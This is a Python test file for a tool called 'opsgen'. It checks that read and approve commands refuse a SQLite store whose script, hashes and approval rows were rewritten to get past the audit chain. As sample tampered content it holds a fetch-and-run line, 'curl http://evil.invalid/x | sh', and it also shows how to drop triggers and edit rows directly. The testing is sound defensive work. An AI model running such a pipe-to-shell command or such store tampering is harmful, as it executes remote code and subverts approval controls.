"""Read commands check what they show: a store edited behind opsgen's back fails loudly.

The attack (issue 14, point 7): rewrite a revision's script *and* its sha256 in SQLite, and
the approval's ``revision_sha256`` with them, so every row agrees with every other row.
Only the audit chain still remembers the approved hash. ``approve`` refused; ``show``
printed "approved by bob" beside the evil bytes. Now every read verb refuses with one
``error[store-tampered]`` line and exit 1, and never prints the approval.
"""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pytest

from opsgen.cli import main
from opsgen.flow.testing import fake_report, make_evidence
from opsgen.store.canonical import sha256_text

SCRIPT = "#!/bin/bash\nset -euo pipefail\necho 'hello' > /etc/motd\n"
EVIL = "#!/bin/bash\ncurl http://evil.invalid/x | sh\n"


@pytest.fixture(autouse=True)
def seam(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, passing_checks: None) -> Path:
    """A temp workspace and cwd, with lint + dry-run replaced by passing evidence."""
    monkeypatch.setenv("OPSGEN_WORKSPACE", str(tmp_path / "ws"))
    monkeypatch.setenv("OPSGEN_USER", "alice")
    monkeypatch.chdir(tmp_path)
    return tmp_path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture()
def approved(capsys: pytest.CaptureFixture[str]) -> int:
    """Change 1, imported by alice and approved by bob; a second, untouched change 2."""
    Path("motd.sh").write_text(SCRIPT)
    assert run(capsys, "import", "motd.sh")[0] == 0
    assert run(capsys, "approve", "1", "--by", "bob")[0] == 0
    Path("other.sh").write_text("echo other\n")
    assert run(capsys, "import", "other.sh")[0] == 0
    return 1


def _rewrite_script_and_hashes(db: str = "ws/opsgen.db") -> None:
    """What an attacker with write access to the file does: every row stays consistent."""
    raw = sqlite3.connect(db, isolation_level=None)
    for table in ("revisions", "decisions"):
        raw.execute(f"DROP TRIGGER IF EXISTS {table}_no_update")
    digest = sha256_text(EVIL)
    raw.execute("UPDATE revisions SET script = ?, sha256 = ? WHERE id = 1", (EVIL, digest))
    raw.execute("UPDATE decisions SET revision_sha256 = ? WHERE id = 1", (digest,))
    raw.close()


def _assert_tamper_refused(code: int, out: str, err: str) -> None:
    assert code == 1, (out, err)
    assert "error[store-tampered]" in err
    assert "revision 1: sha256 differs from its audit entry" in err
    assert len([ln for ln in err.splitlines() if ln.startswith("error[")]) == 1
    assert "approved" not in out and "curl" not in out


def test_the_clean_store_shows_the_approval(
    capsys: pytest.CaptureFixture[str], approved: int
) -> None:
    code, out, _ = run(capsys, "show", str(approved))
    assert code == 0 and "approved by bob" in out


def test_show_refuses_tampered_bytes(capsys: pytest.CaptureFixture[str], approved: int) -> None:
    _rewrite_script_and_hashes()
    _assert_tamper_refused(*run(capsys, "show", str(approved)))


def test_show_json_refuses_tampered_bytes(
    capsys: pytest.CaptureFixture[str], approved: int
) -> None:
    _rewrite_script_and_hashes()
    code, out, err = run(capsys, "show", str(approved), "--json")
    _assert_tamper_refused(code, out, err)
    assert out == ""  # no JSON with an "approved" status reaches a script


def test_show_html_refuses_tampered_bytes(
    capsys: pytest.CaptureFixture[str], approved: int
) -> None:
    _rewrite_script_and_hashes()
    _assert_tamper_refused(*run(capsys, "show", str(approved), "--html", "page.html"))
    assert not Path("page.html").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ("list",),
        ("list", "--json"),
        ("diff", "1", "1", "1"),
        ("audit",),
        ("audit", "--json"),
        ("export", "1", "--to", "out"),
    ],
)
def test_other_read_verbs_refuse_a_tampered_store(
    capsys: pytest.CaptureFixture[str], approved: int, argv: tuple[str, ...]
) -> None:
    _rewrite_script_and_hashes()
    code, out, err = run(capsys, *argv)
    if argv[0] == "export":  # export keeps its own exit code: 6, export refused
        assert code == 6 and "store-tampered" in err and not Path("out").exists()
        return
    _assert_tamper_refused(code, out, err)


def test_approve_refuses_a_tampered_store_even_with_consistent_evidence(
    capsys: pytest.CaptureFixture[str], approved: int
) -> None:
    # The evidence is rewritten too, so the old "evidence of other bytes" check passes.
    _rewrite_script_and_hashes()
    raw = sqlite3.connect("ws/opsgen.db", isolation_level=None)
    raw.execute("DROP TRIGGER IF EXISTS evidence_no_update")
    clean = make_evidence(report=fake_report(EVIL))
    raw.execute(
        "UPDATE evidence SET body = ?, sha256 = ? WHERE id = 1", (clean.canonical, clean.sha256)
    )
    raw.close()
    code, _, err = run(capsys, "approve", "1", "--by", "carol")
    assert code == 6 and "store-tampered" in err
    assert sqlite3.connect("ws/opsgen.db").execute("SELECT COUNT(*) FROM decisions").fetchone() == (
        1,
    )


def test_audit_verify_still_lists_every_problem(
    capsys: pytest.CaptureFixture[str], approved: int
) -> None:
    _rewrite_script_and_hashes()
    code, out, _ = run(capsys, "audit", "verify", "--json")
    problems = json.loads(out)["problems"]
    assert code == 1
    assert "revision 1: sha256 differs from its audit entry" in problems
    assert "decision 1: revision_sha256 differs from its audit entry" in problems


def test_an_edited_author_is_caught(capsys: pytest.CaptureFixture[str], approved: int) -> None:
    # Renaming the author would let alice approve her own change under forbid_self_approval.
    raw = sqlite3.connect("ws/opsgen.db", isolation_level=None)
    for table in ("changes", "revisions"):
        raw.execute(f"DROP TRIGGER IF EXISTS {table}_no_update")
    raw.execute("UPDATE changes SET created_by = 'mallory' WHERE id = 2")
    raw.execute("UPDATE revisions SET author = 'mallory' WHERE change_id = 2")
    raw.close()
    code, _, err = run(capsys, "show", "2")
    assert code == 1 and "change 2: created_by differs from its audit entry" in err
